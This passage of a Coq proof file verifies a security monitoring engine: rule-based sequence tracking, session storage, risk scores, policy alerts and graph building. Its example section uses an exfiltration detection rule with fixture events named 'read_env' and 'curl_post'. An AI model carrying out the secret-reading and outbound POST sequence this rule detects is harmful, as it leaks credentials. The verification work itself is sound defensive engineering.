     length result = length (rule_steps rule)).
Proof.
  intros t1.
  assert (_rules t1 = List.filter rule_enabled rules) as Hrules.
  { unfold t1, load_rules. simpl. induction rules as [|r rules IH]; [done|].
    rewrite filter_cons. simpl. destruct (rule_enabled r) eqn:Hr.
    - rewrite decide_True by done. by rewrite IH.
    - rewrite decide_False by done. done. }
  split; [done|]. split; [done|]. split; [done|].
  intros rule result. unfold track_event.
  set (t2 := mkTracker _ _ _ _).
  destruct (check_rules t2 session_id timestamp (_rules t2) (_fired t2)) as [f ms] eqn:Hc.
  simpl. intros Hin. apply (check_rules_matches _ _ _ _ _ _ _ _ _ Hc) in Hin as [Hr Hcheck].
  change (_rules t2) with (_rules t1) in Hr. rewrite Hrules in Hr.
  apply List.filter_In in Hr as [Hr He]. split; [done|]. split; [done|].
  destruct (_buffers t2 !! session_id) as [buf|] eqn:Hb.
  - destruct (check_rule_sound _ _ _ _ _ _ Hb Hcheck) as [Hsel _].
    symmetry. by eapply Forall2_length.
  - unfold _check_rule in Hcheck. by rewrite Hb in Hcheck.
Qed.

(** *** Nested fields *)

Lemma split_aux_app sep acc a b :
  Py.split_aux sep acc (a +:+ String sep b) =
  Py.split_aux sep acc a ++ Py.split_aux sep EmptyString b.
Proof.
  revert acc. induction a as [|c a IH]; intros acc.
  - rewrite append_nil. simpl. by rewrite Ascii.eqb_refl.
  - rewrite append_cons. simpl. destruct (Ascii.eqb c sep); by rewrite IH.
Qed.

Lemma split_aux_plain sep acc s :
  (forall pre post, s <> pre +:+ String sep post) ->
  Py.split_aux sep acc s = [acc +:+ s].
Proof.
  revert acc. induction s as [|c s IH]; intros acc Hno; simpl.
  - by rewrite append_nil_r.
  - destruct (Ascii.eqb_spec c sep) as [->|Hne].
    + destruct (Hno EmptyString s). done.
    + rewrite IH.
      * f_equal. rewrite append_assoc_str. done.
      * intros pre post ->. apply (Hno (String c pre) post). by rewrite append_cons.
Qed.

Lemma split_aux_cons sep acc s : exists part parts, Py.split_aux sep acc s = part :: parts.
Proof.
  revert acc. induction s as [|c s IH]; intros acc; simpl; [by eexists _, _|].
  destruct (Ascii.eqb c sep); [by eexists _, _ | apply IH].
Qed.

Lemma walk_app value p1 p2 : walk value (p1 ++ p2) = walk (walk value p1) p2.
Proof.
  revert value. induction p1 as [|part p1 IH]; intros value; simpl; [done|].
  destruct value as [| | | | |kv]; try (by destruct p2).
  destruct (dict_get kv part); apply IH.
Qed.

(** X10: [_get_nested] reads a field path one dot at a time: the value at
    [a.b] is the value at [b] inside the value at [a]; a name without a dot
    is a plain lookup, [None] when the key is missing; and a path that
    goes through a value that is not a dictionary gives [None]. *)
Theorem get_nested_paths (data : PyDict JVal) :
  (forall a b, _get_nested data (a +:+ "." +:+ b) =
               walk (_get_nested data a) (Py.split "."%char b)) /\
  (forall k, (forall pre post, k <> pre +:+ "." +:+ post) ->
             _get_nested data k = default JNull (dict_get data k)) /\
  (forall a b, match _get_nested data a with JDict _ => False | _ => True end ->
               _get_nested data (a +:+ "." +:+ b) = JNull).
Proof.
  assert (forall a b, _get_nested data (a +:+ "." +:+ b) =
                      walk (_get_nested data a) (Py.split "."%char b)) as Hcomp.
  { intros a b. unfold _get_nested, Py.split.
    change ("." +:+ b) with (String "."%char b). by rewrite split_aux_app, walk_app. }
  split; [done|]. split.
  - intros k Hno. unfold _get_nested, Py.split. rewrite split_aux_plain by done.
    rewrite append_nil. simpl. by destruct (dict_get data k).
  - intros a b Hv. rewrite Hcomp. unfold Py.split.
    destruct (split_aux_cons "."%char EmptyString b) as (part & parts & ->).
    by destruct (_get_nested data a).
Qed.

End TrackerMore.

Module TrackerExamples.
Import Sequence LiteralRe SequenceExamples.

(** A tracker that has seen one event of session s1. *)
Definition one_read : SequenceTracker :=
  fst (@track_event literal_re (tracker_with (exfil_rule true 300)) 1%N "s1" 0 read_env).

Lemma track_event_in_order_witness :
  time_ordered (buffer_of one_read "s1") /\
  (forall e, In e (buffer_of one_read "s1") -> be_timestamp e <= seconds 10) /\
  let t' := fst (@track_event literal_re one_read 2%N "s1" (seconds 10) curl_post) in
  time_ordered (buffer_of t' "s1") /\
  (forall e, In e (buffer_of t' "s1") ->
     seconds 10 - seconds (max_window (_rules one_read)) <= be_timestamp e <= seconds 10).
Proof.
  assert (buffer_of one_read "s1" = [mkBuffered 1%N 0 read_env]) as Hbuf
    by (vm_compute; reflexivity).
  assert (time_ordered (buffer_of one_read "s1")) as Hs.
  { rewrite Hbuf. repeat constructor. }
  assert (forall e, In e (buffer_of one_read "s1") -> be_timestamp e <= seconds 10) as Hle.
  { rewrite Hbuf. intros e [<-|[]]. by vm_compute. }
  split; [done|]. split; [done|].
  exact (@track_event_in_order literal_re one_read 2%N "s1" (seconds 10) curl_post Hs Hle).
Defined.

(** An old event and a recent one, for a rule with a window of a minute. *)
Definition stale_buffer : list _BufferedEvent :=
  [mkBuffered 1%N 0 read_env; mkBuffered 2%N (seconds 100) curl_post].

Lemma prune_loses_no_match_witness :
  let t := tracker_with (exfil_rule true 60) in
  let rule := exfil_rule true 60 in
  In rule (_rules t) /\
  let cutoff := seconds 120 - seconds (max_window (_rules t)) in
  let pruned := mkTracker (_rules t) (<["s1" := prune cutoff stale_buffer]> (_buffers t))
                          (_max_buffer_size t) (_fired t) in
  let kept := mkTracker (_rules t) (<["s1" := stale_buffer]> (_buffers t))
                        (_max_buffer_size t) (_fired t) in
  (forall e, In e stale_buffer -> ~ In e (prune cutoff stale_buffer) ->
     be_timestamp e < seconds 120 - seconds (rule_time_window_seconds rule)) /\
  @_check_rule literal_re pruned rule "s1" (seconds 120) =
  @_check_rule literal_re kept rule "s1" (seconds 120).
Proof.
  assert (In (exfil_rule true 60) (_rules (tracker_with (exfil_rule true 60)))) as Hin
    by (by left).
  split; [done|].
  exact (@prune_loses_no_match literal_re (tracker_with (exfil_rule true 60)) "s1"
           (seconds 120) stale_buffer (exfil_rule true 60) Hin).
Defined.

End TrackerExamples.

(** ** More on the store *)

Section StoreMore.
Import Store.

Lemma find_map_same {A} (p : A -> bool) (f : A -> A) l :
  (forall x, p (f x) = p x) ->
  List.find p (map f l) = option_map f (List.find p l).
Proof.
  intros Hp. induction l as [|x l IH]; simpl; [done|].
  rewrite Hp. by destruct (p x).
Qed.

Lemma find_snoc {A} (p : A -> bool) l x :
  List.find p (l ++ [x]) =
  match List.find p l with
  | Some y => Some y
  | None => if p x then Some x else None
  end.
Proof. induction l as [|y l IH]; simpl; [done|]. by destruct (p y). Qed.

Lemma find_existsb {A} (p : A -> bool) l :
  existsb p l = match List.find p l with Some _ => true | None => false end.
Proof. induction l as [|x l IH]; simpl; [done|]. by destruct (p x). Qed.

Lemma NoDup_snoc_fresh {K} (l : list K) k :
  List.NoDup l -> ~ In k l -> List.NoDup (l ++ [k]).
Proof.
  intros Hnd Hk. apply NoDup_ListNoDup, NoDup_app.
  split; [by apply NoDup_ListNoDup|]. split; [|apply NoDup_singleton].
  intros x Hx Hx'. apply list_elem_of_In in Hx. apply list_elem_of_singleton in Hx'.
  by subst.
Qed.

Lemma map_map_same {A K} (key : A -> K) (f : A -> A) l :
  (forall x, key (f x) = key x) -> map key (map f l) = map key l.
Proof. intros Hk. rewrite map_map. apply map_ext. done. Qed.

(** X11: [save_session] keeps one row per [session_id].  After it, the row
    of the session carries the status, the end time and the two counters
    of the saved object; a row that was there keeps its id, start time,
    working directory, parent, endpoint, source and [risk_score]; a new row
    starts with [risk_score] 0; the rows of the other sessions are as
    before. *)
Theorem save_session_lookup (db : Database) (session : Session) :
  let db' := save_session db session in
  let sid := s_session_id session in
  (exists s', get_session_by_id db' sid = Some s' /\
     s_status s' = s_status session /\ s_ended_at s' = s_ended_at session /\
     s_event_count s' = s_event_count session /\
     s_alert_count s' = s_alert_count session /\
     match get_session_by_id db sid with
     | Some old =>
         s_id s' = s_id old /\ s_started_at s' = s_started_at old /\
         s_cwd s' = s_cwd old /\ s_parent_session_id s' = s_parent_session_id old /\
         s_endpoint_hostname s' = s_endpoint_hostname old /\
         s_endpoint_user s' = s_endpoint_user old /\
         s_session_source s' = s_session_source old /\
         s_risk_score s' = s_risk_score old /\
         length (sessions db') = length (sessions db)
     | None =>
         s' = inserted_session session /\ s_risk_score s' = 0 /\
         sessions db' = sessions db ++ [s']
     end) /\
  (forall other, other <> sid -> get_session_by_id db' other = get_session_by_id db other) /\
  (List.NoDup (map s_session_id (sessions db)) ->
   List.NoDup (map s_session_id (sessions db'))).
Proof.
  intros db' sid. unfold db', save_session, get_session_by_id. fold sid.
  rewrite find_existsb.
  destruct (List.find (fun s => String.eqb (s_session_id s) sid) (sessions db))
    as [old|] eqn:Hold.
  - rewrite update_session_sessions. split; [|split].
    + rewrite (find_map_same _ (fun s => if String.eqb (s_session_id s) sid
                                         then merge_session session s else s))
        by (intros x; by destruct (String.eqb (s_session_id x) sid) eqn:Hx).
      rewrite Hold. simpl. eexists. split; [done|].
      apply List.find_some in Hold as [_ Hid]. simpl in Hid. rewrite Hid. simpl.
      by rewrite length_map.
    + intros other Hne.
      rewrite (find_map_same _ (fun s => if String.eqb (s_session_id s) sid
                                         then merge_session session s else s))
        by (intros x; by destruct (String.eqb (s_session_id x) sid) eqn:Hx).
      destruct (List.find (fun s => String.eqb (s_session_id s) other) (sessions db))
        as [s|] eqn:Hs; [|done]. cbn [option_map].
      apply List.find_some in Hs as [_ Hs]. apply String.eqb_eq in Hs.
      destruct (String.eqb_spec (s_session_id s) sid) as [He|He]; [congruence | done].
    + rewrite map_map_same; [done|].
      intros x. by destruct (String.eqb (s_session_id x) sid).
  - simpl. split; [|split].
    + rewrite find_snoc, Hold. simpl. fold sid. rewrite String.eqb_refl.
      by eexists.
    + intros other Hne. rewrite find_snoc.
      destruct (List.find (fun s => String.eqb (s_session_id s) other) (sessions db));
        [done|]. simpl. fold sid.
      assert (String.eqb sid other = false) as ->; [|done].
      apply String.eqb_neq. congruence.
    + intros Hnd. rewrite map_app. simpl. apply NoDup_snoc_fresh; [done|].
      intros Hin. apply in_map_iff in Hin as (s & Hs & Hin).
      eapply List.find_none in Hold; [|done]. simpl in Hold. fold sid in Hs.
      rewrite Hs, String.eqb_refl in Hold. done.
Qed.

Lemma find_filter_other (event_id other : UUID) (l : list Event) :
  other <> event_id ->
  List.find (fun e => N.eqb (ev_id e) other)
    (List.filter (fun e => negb (N.eqb (ev_id e) event_id)) l) =
  List.find (fun e => N.eqb (ev_id e) other) l.
Proof.
  intros Hne. induction l as [|e l IH]; simpl; [done|].
  destruct (N.eqb_spec (ev_id e) event_id) as [He|He]; simpl.
  - rewrite IH. destruct (N.eqb_spec (ev_id e) other); [congruence | done].
  - by rewrite IH.
Qed.

Lemma find_filter_self (event_id : UUID) (l : list Event) :
  List.find (fun e => N.eqb (ev_id e) event_id)
    (List.filter (fun e => negb (N.eqb (ev_id e) event_id)) l) = None.
Proof.
  induction l as [|e l IH]; simpl; [done|].
  destruct (N.eqb (ev_id e) event_id) eqn:He; simpl; [done|]. by rewrite He.
Qed.

Lemma NoDup_map_filter {A K} (key : A -> K) (p : A -> bool) l :
  List.NoDup (map key l) -> List.NoDup (map key (List.filter p l)).
Proof.
  induction l as [|x l IH]; simpl; [done|]. intros Hnd.
  inversion Hnd as [|? ? Hx Hnd']; subst.
  destruct (p x); simpl; [|by apply IH]. constructor; [|by apply IH].
  intros Hin. apply Hx. apply in_map_iff in Hin as (y & Hy & Hin).
  apply List.filter_In in Hin as [Hin _]. apply in_map_iff. by exists y.
Qed.


(** *** Stale sessions *)

Lemma last_event_fold (es : list Event) sid acc :
  let r := fold_left (fun acc e =>
             if String.eqb (ev_session_id e) sid then
               match acc with
               | Some m => Some (Z.max m (ev_timestamp e))
               | None => Some (ev_timestamp e)
               end
             else acc) es acc in
  (forall e, In e es -> ev_session_id e = sid ->
             exists t, r = Some t /\ ev_timestamp e <= t) /\
  (forall a, acc = Some a -> exists t, r = Some t /\ a <= t).
Proof.
  revert acc. induction es as [|e es IH]; intros acc; simpl.
  - split; [done|]. intros a ->. exists a. split; [done | lia].
  - destruct (String.eqb_spec (ev_session_id e) sid) as [He|He].
    + destruct acc as [m|].
      * destruct (IH (Some (Z.max m (ev_timestamp e)))) as [Hall Hacc].
        destruct (Hacc _ eq_refl) as (t & Ht & Hle). split.
        -- intros e' [<-|Hin] Hs; [|by apply Hall]. exists t. split; [done | lia].
        -- intros a [= <-]. exists t. split; [done | lia].
      * destruct (IH (Some (ev_timestamp e))) as [Hall Hacc].
        destruct (Hacc _ eq_refl) as (t & Ht & Hle). split; [|done].
        intros e' [<-|Hin] Hs; [|by apply Hall]. by exists t.
    + destruct (IH acc) as [Hall Hacc]. split; [|done].
      intros e' [<-|Hin] Hs; [done | by apply Hall].
Qed.

Lemma last_event_recent db sid e :
  In e (events db) -> ev_session_id e = sid ->
  exists t, last_event db sid = Some t /\ ev_timestamp e <= t.
Proof.
  intros Hin Hs. unfold last_event.
  destruct (last_event_fold (events db) sid None) as [Hall _]. by apply Hall.
Qed.

Lemma filter_none {A} (p : A -> bool) l :
  (forall x, In x l -> p x = false) -> List.filter p l = [].
Proof.
  induction l as [|x l IH]; simpl; [done|]. intros Hp.
  rewrite (Hp x) by (by left). apply IH. intros y Hy. apply Hp. by right.
Qed.

Lemma filter_map_length {A} (closes : A -> bool) (active : A -> bool) (f : A -> A) l :
  (forall s, closes s = true -> active s = true /\ active (f s) = false) ->
  (length (List.filter active l) =
   length (List.filter active (map (fun s => if closes s then f s else s) l)) +
   length (List.filter closes l))%nat.
Proof.
  intros Hc. induction l as [|s l IH]; simpl; [done|].
  destruct (closes s) eqn:Hs.
  - destruct (Hc s Hs) as [-> ->]. simpl. lia.
  - destruct (active s); simpl; lia.
Qed.

Lemma cleanup_nothing_stale db now inactive_minutes :
  (forall s, In s (sessions db) ->
             is_stale db (now - seconds (60 * inactive_minutes)) s = false) ->
  cleanup_stale_sessions db now inactive_minutes = (db, 0%nat).
Proof.
  intros Hn. unfold cleanup_stale_sessions. rewrite (filter_none _ _ Hn). simpl.
  rewrite filter_none by (intros; apply andb_false_r). simpl. f_equal.
  destruct db as [ss es als ps ns gs]. unfold set_sessions. simpl. f_equal.
  rewrite <- (map_id ss) at 2. apply map_ext. intros s. by rewrite andb_false_r.
Qed.


(** *** Event queries *)

Lemma sql_limit_take {A} limit (rows : list A) :
  exists k, sql_limit limit rows = take k rows /\
            (0 <= limit -> k = Z.to_nat limit) /\
            (limit < 0 -> drop k rows = []).
Proof.
  unfold sql_limit. destruct (Z.ltb_spec limit 0).
  - exists (length rows). split; [by rewrite firstn_all|]. split; [lia|].
    intros _. by rewrite drop_all.
  - eexists. split; [done|]. split; [done | lia].
Qed.

Lemma sorted_take {A} (R : A -> A -> Prop) k l :
  StronglySorted R l -> StronglySorted R (take k l).
Proof.
  intros Hs. revert k. induction Hs as [|x l Hs IH Hall]; intros k.
  - rewrite take_nil. constructor.
  - destruct k; simpl; [constructor|]. constructor; [apply IH|].
    rewrite List.Forall_forall in *. intros y Hy. apply Hall.
    apply list_elem_of_In. apply list_elem_of_In in Hy. by eapply subseteq_take.
Qed.

Lemma sorted_take_drop {A} (R : A -> A -> Prop) k l x y :
  StronglySorted R l -> In x (take k l) -> In y (drop k l) -> R x y.
Proof.
  intros Hs. revert k. induction Hs as [|z l Hs IH Hall]; intros k.
  - by rewrite take_nil.
  - destruct k; simpl; [done|]. intros [<-|Hx] Hy; [|by eapply IH].
    rewrite List.Forall_forall in Hall. apply Hall.
    apply list_elem_of_In. apply list_elem_of_In in Hy. by eapply subseteq_drop.
Qed.

Lemma sorted_impl {A} (R R' : A -> A -> Prop) l :
  StronglySorted R l -> (forall a b, R a b -> R' a b) -> StronglySorted R' l.
Proof.
  intros Hs HR. induction Hs as [|x l Hs IH Hall]; constructor; [done|].
  eapply List.Forall_impl; [|exact Hall]. apply HR.
Qed.

Lemma sorted_snoc_gen {A} (R : A -> A -> Prop) l x :
  StronglySorted R l -> (forall y, In y l -> R y x) -> StronglySorted R (l ++ [x]).
Proof.
  induction 1 as [|z l Hs IH Hall]; intros Hx; simpl; [repeat constructor|].
  constructor; [apply IH; intros y Hy; apply Hx; by right|].
  apply List.Forall_app. split; [done|]. constructor; [|done]. apply Hx. by left.
Qed.

Lemma sorted_rev {A} (R : A -> A -> Prop) l :
  StronglySorted R l -> StronglySorted (fun a b => R b a) (rev l).
Proof.
  induction 1 as [|x l Hs IH Hall]; simpl; [constructor|].
  apply sorted_snoc_gen; [done|]. intros y Hy. apply in_rev in Hy.
  rewrite List.Forall_forall in Hall. by apply Hall.
Qed.

Local Abbreviation pending d :=
  (Py.sorted_by ev_timestamp (List.filter (fun e => negb (ev_processed e)) (events d))).



(** *** Alerts and counters *)


Lemma update_session_twice f g sid db :
  (forall s, s_session_id (g s) = s_session_id s) ->
  update_session f sid (update_session g sid db) =
  update_session (fun s => f (g s)) sid db.
Proof.
  intros Hg. unfold update_session, set_sessions. simpl. f_equal.
  rewrite map_map. apply map_ext. intros s.
  destruct (String.eqb (s_session_id s) sid) eqn:Hs; [|by rewrite Hs].
  by rewrite Hg, Hs.
Qed.

Lemma update_session_swap f g sid sid' db :
  (forall s, s_session_id (f s) = s_session_id s) ->
  (forall s, s_session_id (g s) = s_session_id s) ->
  (forall s, f (g s) = g (f s)) ->
  update_session f sid (update_session g sid' db) =
  update_session g sid' (update_session f sid db).
Proof.
  intros Hf Hg Hfg. unfold update_session, set_sessions. simpl. f_equal.
  rewrite !map_map. apply map_ext. intros s.
  destruct (String.eqb (s_session_id s) sid) eqn:Hs;
    destruct (String.eqb (s_session_id s) sid') eqn:Hs';
    rewrite ?Hf, ?Hg, ?Hs, ?Hs'; by rewrite ?Hfg.
Qed.

(** X17: the risk score of a session only accumulates: two increments
    are one increment by the sum, an increment by zero changes nothing,
    and increments commute with each other, with the alert counter and
    with the end of a session, for the same session or another.  An
    increment touches no row of another session and no other column. *)
Theorem risk_score_accumulates (db : Database) (session_id other : string)
    (a b : Z) (now : datetime) :
  increment_session_risk_score (increment_session_risk_score db session_id a) session_id b
    = increment_session_risk_score db session_id (a + b) /\
  increment_session_risk_score db session_id 0 = db /\
  increment_session_risk_score (increment_session_risk_score db session_id a) other b
    = increment_session_risk_score (increment_session_risk_score db other b) session_id a /\
  increment_session_risk_score (increment_session_alert_count db other) session_id a
    = increment_session_alert_count (increment_session_risk_score db session_id a) other /\
  increment_session_risk_score (end_session db now other) session_id a
    = end_session (increment_session_risk_score db session_id a) now other /\
  Forall2 (fun s s' =>
             s_session_id s' = s_session_id s /\
             s_risk_score s' =
               (if String.eqb (s_session_id s) session_id
                then s_risk_score s + a else s_risk_score s) /\
             s_status s' = s_status s /\ s_event_count s' = s_event_count s /\
             s_alert_count s' = s_alert_count s /\ s_ended_at s' = s_ended_at s)
          (sessions db) (sessions (increment_session_risk_score db session_id a)).
Proof.
  unfold increment_session_risk_score, increment_session_alert_count, end_session.
  split; [|split; [|split; [|split; [|split]]]].
  - rewrite update_session_twice by done. unfold update_session. f_equal.
    apply map_ext. intros s. destruct (String.eqb (s_session_id s) session_id); [|done].
    unfold add_risk. simpl. f_equal. lia.
  - destruct db as [ss es als ps ns gs]. unfold update_session, set_sessions. simpl.
    f_equal. rewrite <- (map_id ss) at 2. apply map_ext. intros s.
    destruct (String.eqb (s_session_id s) session_id); [|done].
    destruct s. unfold add_risk. simpl. f_equal. lia.
  - apply update_session_swap; try done. intros s. unfold add_risk. simpl. f_equal. lia.
  - by apply update_session_swap.
  - by apply update_session_swap.
  - rewrite update_session_sessions. apply Forall2_map_self. intros s.
    by destruct (String.eqb (s_session_id s) session_id).
Qed.

End StoreMore.

(** ** The engine after the fact *)

Section AlertingFacts.
Import Store Engine.
Context `{PyRe} `{PyUrl} `{ConditionEval}.

Lemma alert_for_policy_run policy event w :
  alert_for_policy policy event w =
  (tt, mkEngine
         (increment_session_alert_count
            (save_alert (database w) (policy_alert policy event (next_uuid w) (clock w)))
            (ev_session_id event))
         (_event_queue w) (_policies w) (_sequence_tracker w)
         (N.succ (next_uuid w)) (clock w + 1 + 1)
         (broadcasts w ++ [BroadcastAlert (policy_alert policy event (next_uuid w) (clock w))])).
Proof. reflexivity. Qed.

Lemma evaluate_policy_alerting event policy :
  evaluate_policy event (_event_to_dict event) policy =
  if alerting event policy then alert_for_policy policy event else ret tt.
Proof.
  unfold evaluate_policy, alerting.
  destruct (policy_action policy); simpl;
    by destruct (Policies.matches policy (_event_to_dict event)).
Qed.

Lemma iter_bump_fields n s :
  s_session_id (Nat.iter n bump_alert_count s) = s_session_id s /\
  s_alert_count (Nat.iter n bump_alert_count s) = s_alert_count s + Z.of_nat n /\
  s_risk_score (Nat.iter n bump_alert_count s) = s_risk_score s /\
  s_event_count (Nat.iter n bump_alert_count s) = s_event_count s /\
  s_status (Nat.iter n bump_alert_count s) = s_status s /\
  s_ended_at (Nat.iter n bump_alert_count s) = s_ended_at s.
Proof.
  induction n as [|n (Hid & Hc & Hr & He & Hs & Hd)]; simpl.
  - repeat split; try done. lia.
  - repeat split; try done. rewrite Hc. lia.
Qed.

Lemma for_each_cons {A} (x : A) xs (body : A -> M unit) w :
  snd (for_each (x :: xs) body w) = snd (for_each xs body (snd (body x w))).
Proof. simpl. unfold bind. by destruct (body x w). Qed.

(** The loop of [_evaluate_policies] over a list of policies. *)
Lemma evaluate_policies_loop event ps : forall w,
  (forall a, In a (alerts (database w)) -> (alert_id a < next_uuid w)%N) ->
  let w' := snd (for_each ps (evaluate_policy event (_event_to_dict event)) w) in
  exists new,
    alerts (database w') = alerts (database w) ++ new /\
    Forall2 (fun p a => exists id t, a = policy_alert p event id t /\
                                     (next_uuid w <= id < next_uuid w')%N)
            (List.filter (alerting event) ps) new /\
    sessions (database w') =
      map (fun s => if String.eqb (s_session_id s) (ev_session_id event)
                    then Nat.iter (length new) bump_alert_count s else s)
          (sessions (database w)) /\
    broadcasts w' = broadcasts w ++ map BroadcastAlert new /\
    (next_uuid w <= next_uuid w')%N /\
    _event_queue w' = _event_queue w /\ _policies w' = _policies w /\
    _sequence_tracker w' = _sequence_tracker w /\
    events (database w') = events (database w) /\
    policies (database w') = policies (database w) /\
    graph_nodes (database w') = graph_nodes (database w) /\
    graph_edges (database w') = graph_edges (database w).
Proof.
  induction ps as [|p ps IH]; intros w Hfresh; cbn zeta.
  - exists []. simpl. rewrite !app_nil_r.
    split; [done|]. split; [constructor|]. split.
    { rewrite <- (map_id (sessions (database w))) at 1. apply map_ext. intros s.
      by destruct (String.eqb _ _). }
    split; [done|]. split; [lia | done].
  - rewrite for_each_cons, evaluate_policy_alerting.
    cbn [List.filter]. destruct (alerting event p) eqn:Hp; [|by apply IH].
    rewrite alert_for_policy_run. cbn [snd].
    set (a := policy_alert p event (next_uuid w) (clock w)).
    rewrite (save_alert_fresh (database w) a)
      by (intros a0 Hin; specialize (Hfresh a0 Hin); simpl; lia).
    set (w1 := mkEngine _ _ _ _ _ _ _).
    assert (forall a0, In a0 (alerts (database w1)) -> (alert_id a0 < next_uuid w1)%N) as Hf1.
    { unfold w1. simpl. intros a0 Hin.
      apply in_app_or in Hin as [Hin|[<-|[]]]; [specialize (Hfresh a0 Hin)|simpl]; lia. }
    destruct (IH w1 Hf1)
      as (new & Ha & Hall & Hs & Hb & Hn & Hq & Hpc & Ht & He & Hpt & Hgn & Hge).
    exists (a :: new).
    split; [rewrite Ha; unfold w1; simpl; by rewrite <- app_assoc|]. split.
    { constructor.
      - exists (next_uuid w), (clock w). split; [done|].
        change (next_uuid w1) with (N.succ (next_uuid w)) in Hn. lia.
      - eapply Forall2_impl; [exact Hall|]. intros p' a' (id & t & -> & Hid).
        exists id, t. split; [done|].
        change (next_uuid w1) with (N.succ (next_uuid w)) in Hid. lia. }
    split.
    { rewrite Hs. unfold w1. simpl. rewrite map_map. apply map_ext. intros s.
      destruct (String.eqb (s_session_id s) (ev_session_id event)) eqn:Hsid.
      - simpl. rewrite Hsid. by rewrite <- Nat.iter_succ_r.
      - by rewrite Hsid. }
    split; [rewrite Hb; unfold w1; simpl; by rewrite <- app_assoc|].
    split; [change (next_uuid w1) with (N.succ (next_uuid w)) in Hn; lia|].
    rewrite Hq, Hpc, Ht, He, Hpt, Hgn, Hge. done.
Qed.

(** X18: [_evaluate_policies] raises one alert for each policy of the
    cache whose action is ALERT and that matches the event, in cache
    order, and none for a BLOCK or LOG policy: each alert is new, not
    blocked, names its policy and the event, and carries one evidence
    item; the alert counter of the session goes up by their number and
    each is broadcast; the queue, the sequence tracker, the events and the
    graph are left alone. *)
Theorem evaluate_policies_alerts (event : Event) (w : Engine) :
  (forall a, In a (alerts (database w)) -> (alert_id a < next_uuid w)%N) ->
  let w' := snd (_evaluate_policies event w) in
  exists new,
    alerts (database w') = alerts (database w) ++ new /\
    Forall2 (fun p a =>
               policy_action p = ALERT /\
               Policies.matches p (_event_to_dict event) = true /\
               (forall a0, In a0 (alerts (database w)) -> alert_id a0 <> alert_id a) /\
               alert_blocked a = false /\
               alert_policy_id a = Some (policy_id p) /\
               alert_severity a = policy_severity p /\
               alert_event_ids a = [ev_id event] /\
               alert_session_id a = ev_session_id event /\
               length (alert_evidence a) = 1%nat)
            (List.filter (alerting event) (_policies w)) new /\
    sessions (database w') =
      map (fun s => if String.eqb (s_session_id s) (ev_session_id event)
                    then Nat.iter (length new) bump_alert_count s else s)
          (sessions (database w)) /\
    (forall s, s_alert_count (Nat.iter (length new) bump_alert_count s) =
               s_alert_count s + Z.of_nat (length new)) /\
    broadcasts w' = broadcasts w ++ map BroadcastAlert new /\
    _event_queue w' = _event_queue w /\ _policies w' = _policies w /\
    _sequence_tracker w' = _sequence_tracker w /\
    events (database w') = events (database w) /\
    graph_nodes (database w') = graph_nodes (database w) /\
    graph_edges (database w') = graph_edges (database w).
Proof.
  intros Hfresh w'. unfold w', _evaluate_policies.
  destruct (evaluate_policies_loop event (_policies w) w Hfresh)
    as (new & Ha & Hall & Hs & Hb & Hn & Hq & Hpc & Ht & He & Hpt & Hgn & Hge).
  exists new. split; [done|]. split.
  { clear Ha Hs Hb. revert Hall.
    generalize (for_each (_policies w) (evaluate_policy event (_event_to_dict event)) w).2.
    intros w2 Hall.
    assert (Forall (fun p => alerting event p = true)
              (List.filter (alerting event) (_policies w))) as Hhits.
    { apply List.Forall_forall. intros p Hin. by apply List.filter_In in Hin as [_ Hp]. }
    induction Hall as [|p a ps new (id & t & -> & Hid) _ IH]; [constructor|].
    inversion Hhits as [|? ? Hp Hrest]; subst. constructor; [|by apply IH].
    unfold alerting in Hp. apply andb_true_iff in Hp as [Hact Hm].
    apply bool_decide_eq_true in Hact. split; [done|]. split; [done|]. split; [|done].
    intros a0 Hin. specialize (Hfresh a0 Hin). simpl. lia. }
  split; [done|]. split; [intros s; apply iter_bump_fields|]. done.
Qed.

(** *** What the graph builder leaves alone *)

Lemma outside_graph_refl w : outside_graph w w.
Proof. unfold outside_graph. repeat split; try done; lia. Qed.

Lemma outside_graph_trans a b c : outside_graph a b -> outside_graph b c -> outside_graph a c.
Proof.
  unfold outside_graph.
  intros (S1 & E1 & A1 & P1 & Q1 & C1 & T1 & B1 & N1 & K1 & G1 & D1)
         (S2 & E2 & A2 & P2 & Q2 & C2 & T2 & B2 & N2 & K2 & G2 & D2).
  rewrite S2, E2, A2, P2, Q2, C2, T2, B2. repeat split; try done; lia.
Qed.

Lemma keeps_ret {A} (x : A) : keeps outside_graph (ret x).
Proof. intros w y w' [= <- <-]. apply outside_graph_refl. Qed.

Lemma keeps_bind {A B} (p : M A) (k : A -> M B) :
  keeps outside_graph p -> (forall x, keeps outside_graph (k x)) ->
  keeps outside_graph (bind p k).
Proof.
  intros Hp Hk w y w2. unfold bind. destruct (p w) as [x w1] eqn:Hpw. intros Hkw.
  eapply outside_graph_trans; [by eapply Hp | by eapply Hk].
Qed.

Lemma keeps_for_each {A} (xs : list A) (body : A -> M unit) :
  (forall x, keeps outside_graph (body x)) -> keeps outside_graph (for_each xs body).
Proof.
  intros Hb. induction xs as [|x xs IH]; simpl; [apply keeps_ret|].
  apply keeps_bind; [apply Hb | by intros _].
Qed.

Lemma keeps_for_collect {A B} (xs : list A) (body : A -> M B) :
  (forall x, keeps outside_graph (body x)) -> keeps outside_graph (for_collect xs body).
Proof.
  intros Hb. induction xs as [|x xs IH]; simpl; [apply keeps_ret|].
  apply keeps_bind; [apply Hb|]. intros y.
  apply keeps_bind; [apply IH|]. intros ys. apply keeps_ret.
Qed.

Lemma keeps_upsert_node ty label value sid eid :
  keeps outside_graph (upsert_node ty label value sid eid).
Proof.
  intros w x w'. rewrite upsert_node_run. intros Heq. injection Heq as _ <-.
  unfold outside_graph. cbn [database _event_queue _policies _sequence_tracker
    broadcasts next_uuid clock].
  destruct (save_graph_node_cases (database w) (built_node sid eid ty label value w))
    as [(old & _ & _ & ->)|[_ ->]]; simpl; rewrite ?length_map, ?length_app;
    repeat split; try done; simpl; lia.
Qed.

Lemma keeps_upsert_edge s t r sid eid :
  keeps outside_graph (upsert_edge s t r sid eid).
Proof.
  intros w x w'. rewrite upsert_edge_run. intros Heq. injection Heq as _ <-.
  unfold outside_graph. cbn [database _event_queue _policies _sequence_tracker
    broadcasts next_uuid clock].
  destruct (save_graph_edge_cases (database w) (built_edge sid eid s t r w))
    as [[_ ->]|[_ ->]]; simpl; rewrite ?length_map, ?length_app;
    repeat split; try done; simpl; lia.
Qed.

Lemma keeps_build_graph (event : Event) : keeps outside_graph (_build_graph event).
Proof.
  unfold _build_graph.
  apply keeps_bind; [apply keeps_upsert_node|]. intros session_actual_id.
  apply keeps_bind.
  { destruct (ev_tool_name event) as [tool_name|]; [|apply keeps_ret].
